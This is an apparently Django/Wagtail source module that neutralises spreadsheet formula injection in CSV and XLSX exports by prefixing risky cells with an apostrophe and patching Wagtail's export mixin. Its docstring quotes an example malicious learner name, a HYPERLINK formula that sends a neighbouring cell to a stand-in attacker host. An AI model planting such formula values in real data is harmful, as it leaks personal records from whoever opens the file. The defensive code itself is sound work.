"""The one rule for text that Redflag writes into a spreadsheet cell, CSV or XLSX.

Names, organisations, places and notes are typed by learners and coordinators. A spreadsheet
program runs a cell that starts with =, +, - or @ (or a tab or carriage return before one) as a
formula: a learner named =HYPERLINK("http://evil.example/?"&B2,"Open record") would send the
next column to that address from the coordinator's computer. `safe_cell` puts an apostrophe
before such text, the mark spreadsheet programs themselves use for "this is text"; the text
itself is kept, and an XLSX cell stays text even when saved again as CSV.

Every CSV and XLSX Redflag writes passes its cells through `safe_cell`: its own rosters call it,
and every Wagtail admin export (Redflag's reports and listings, and Wagtail's own such as Site
history) through `guard_wagtail_exports`.
"""

import csv
import functools
import io
import re

from django.utils.functional import Promise

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# Control characters that no XLSX cell can hold (openpyxl refuses the whole workbook for one).
# Tab, line feed and carriage return are allowed.
_UNWRITABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def safe_cell(value):
    """`value` as a spreadsheet cell that is never a formula; numbers and dates stay typed."""
    if isinstance(value, Promise):  # a lazily translated heading or label
        value = str(value)
    if not isinstance(value, str):
        return value
    value = _UNWRITABLE.sub("", value)
    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value


def csv_text(columns, rows) -> str:
    """A CSV with a heading row and one row per dict, every cell through `safe_cell`.

    `columns` is a list of (key, label). Labels may be lazy translations: each is translated here,
    when the file is written, in the language active for its reader."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_cell(label) for _key, label in columns])
    for row in rows:
        writer.writerow([safe_cell(row.get(key, "")) for key, _label in columns])
    return out.getvalue()


def guard_wagtail_exports():
    """Pass every cell and heading of Wagtail's spreadsheet exports through `safe_cell`.

    Every admin export, Redflag's and Wagtail's own (Site history lists certificates by learner
    name; the page reports list titles), is built by SpreadsheetExportMixin, and Wagtail offers
    no setting or hook for cell values. Its own escaping only retypes XLSX formula cells as
    text and leaves CSV as typed. Wrapping the mixin's two methods that produce cell text covers
    every export at once, including ones added later. Called once, from an AppConfig.ready.
    """
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, "redflag_safe_cells", False):
        return
    preprocess = SpreadsheetExportMixin.preprocess_field_value
    heading = SpreadsheetExportMixin.get_heading

    @functools.wraps(preprocess)
    def preprocess_field_value(self, field, value, export_format):
        return safe_cell(preprocess(self, field, value, export_format))

    @functools.wraps(heading)
    def get_heading(self, queryset, field):
        return safe_cell(heading(self, queryset, field))

    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
    SpreadsheetExportMixin.get_heading = get_heading
    SpreadsheetExportMixin.redflag_safe_cells = True
